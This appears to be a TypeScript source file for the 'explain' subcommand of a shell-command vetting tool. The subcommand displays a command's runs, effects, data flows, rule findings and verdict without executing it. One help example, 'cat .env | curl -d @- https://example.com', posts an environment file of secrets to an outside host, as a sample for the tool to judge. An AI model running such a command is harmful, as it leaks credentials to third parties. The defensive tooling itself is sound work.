// Shows how a verdict came about: what would run, its effects, the facts, the findings, the verdict.
import type { Invocation } from '../core/invocation.ts';
import { show, why } from '../core/value.ts';
import { describeEffect } from './describe.ts';
import { explanation } from './explanation.ts';
import { HERE_OPTIONS, type JudgedHere, judgeGiven } from './judge-here.ts';
import { drawSpans } from './spans.ts';
import { clip, columns, type Terminal } from './terminal.ts';
import { EXIT, type Verb } from './verb.ts';
import { verdictLines } from './verdict.ts';

export const explainVerb: Verb = {
  name: 'explain',
  operands: 'CMD',
  summary: 'Show what a command would run and do, the facts, what was found, and the verdict; nothing is run',
  options: HERE_OPTIONS,
  details: [
    'Below the command each number stands under the program start it belongs to; a row further down is one that an',
    'outer one runs in turn. `…` is a part that is not known. Arrows show where data comes from and goes.',
  ].join('\n'),
  examples: [
    "greenlight explain 'cat .env | curl -d @- https://example.com'",
    "greenlight explain --branch main 'git push'",
  ],
  run: (given, terminal) => {
    const judged = judgeGiven(given, terminal);
    terminal.out(given.flag('json') ? `${JSON.stringify(asData(judged))}\n` : asText(judged, terminal));
    return EXIT.ok;
  },
};

const asData = ({ command, context, judgement, facts, settings, ms }: JudgedHere): object => {
  const { decision: verdict, rule, reason, span, unsettled } = judgement.verdict;
  return {
    command,
    cwd: context.cwd,
    verdict,
    rule,
    reason,
    span: span ?? null,
    ...explanation(judgement),
    unsettled: unsettled.map(({ effect, because }) => ({ because, span: effect.span })),
    facts,
    setAside: settings.setAside,
    ms,
  };
};

function asText(judged: JudgedHere, terminal: Terminal): string {
  const { judgement, command } = judged;
  const { paint } = terminal;
  const { invocations } = judgement.reading;
  const section = (title: string, body: string): string => (body === '' ? '' : `${paint('bold', title)}\n${body}\n\n`);
  return [
    section(
      'Command',
      drawSpans(
        command,
        invocations.map(({ span }) => span),
        paint,
      ).join('\n'),
    ),
    section('Runs', invocations.map((each, at) => invocationLines(each, at, terminal)).join('\n')),
    section('Effects', effectLines(judged, terminal)),
    section('Data flows', flowLines(judged)),
    section('Facts', factLines(judged)),
    section('Findings', findingLines(judged, terminal)),
    section('Not settled by rules', unsettledLines(judged)),
    section('Verdict', verdictLines(command, judgement.verdict, terminal).trimEnd()),
  ].join('');
}

const number = (at: number): string => String(at + 1).padStart(3);

function invocationLines(
  { argv, via, stdin, cwd, place, root, assignments }: Invocation,
  at: number,
  { paint }: Terminal,
): string {
  const words = argv.map(
    ({ value, fields }) => clip(show(value), 100) + (fields === 'many' ? paint('dim', '[0..n]') : ''),
  );
  const settings = assignments.map(({ name, word }) => `${name}=${clip(show(word.value), 40)}`);
  const notes = [
    ...(via.length > 0 ? [`by ${via.join(' > ')}`] : []),
    ...(place.kind === 'local' ? [] : [`in ${place.kind} ${place.name}`]),
    ...(root ? ['as root'] : []),
    ...(stdin.from === 'inherit' ? [] : [`input from ${stdin.path ? show(stdin.path) : stdin.from}`]),
    `in ${show(cwd)}`,
  ];
  const unknowns = argv.flatMap(({ value }, word) => {
    const because = why(value);
    return because === undefined
      ? []
      : [`\n      ${paint('yellow', `word ${word}`)}  ${clip(show(value), 40)}: ${because}`];
  });
  return `${number(at)} ${[...settings, ...words].join(' ')}  ${paint('dim', notes.join(', '))}${unknowns.join('')}`;
}

function effectLines({ judgement: { reading, verdict } }: JudgedHere, { paint }: Terminal): string {
  return columns(
    reading.effects.map((effect) => {
      const hit = verdict.findings.some((finding) => finding.effect === effect);
      const open = verdict.unsettled.some((each) => each.effect === effect);
      const mark = hit ? paint('red', '!') : open ? paint('yellow', '?') : ' ';
      return [
        `${effect.invocation < 0 ? '   ' : number(effect.invocation)} ${mark} ${effect.kind}`,
        describeEffect(effect),
      ];
    }),
  );
}

function flowLines({ judgement: { reading } }: JudgedHere): string {
  const inputs = reading.invocations.flatMap(({ stdin }, at) =>
    stdin.taints.map(({ label, from }) => `${from} (${label}) -> standard input of ${at + 1}`),
  );
  const words = reading.invocations.flatMap(({ argv }, at) =>
    argv.flatMap(({ taints }, word) =>
      taints.map(({ label, from }) => `${from} (${label}) -> word ${word} of ${at + 1}`),
    ),
  );
  const sinks = reading.effects.flatMap((effect) =>
    'taints' in effect && effect.taints !== undefined
      ? effect.taints.map(({ label, from }) => `${from} (${label}) -> ${effect.kind} ${describeEffect(effect)}`)
      : [],
  );
  return [...new Set([...inputs, ...words, ...sinks])]
    .map((line) => clip(line, 200))
    .map((line) => `    ${line}`)
    .join('\n');
}

const factLines = ({ facts }: JudgedHere): string =>
  facts
    .map(
      ({ ask: { kind, ...ask }, answer }) =>
        `    ${kind} ${clip(JSON.stringify(ask), 100)}\n      ${clip(JSON.stringify(answer) ?? 'not known', 200)}`,
    )
    .join('\n');

const findingLines = ({ judgement: { verdict } }: JudgedHere, { paint }: Terminal): string =>
  verdict.findings
    .map(
      ({ rule, tier, message, effect }) =>
        `    ${paint('red', rule)} (${tier})  ${message}\n      on ${effect.kind} ${describeEffect(effect)}`,
    )
    .join('\n');

const unsettledLines = ({ judgement: { verdict } }: JudgedHere): string =>
  verdict.unsettled.map(({ effect, because }) => `    ${effect.kind}  ${clip(because, 160)}`).join('\n');
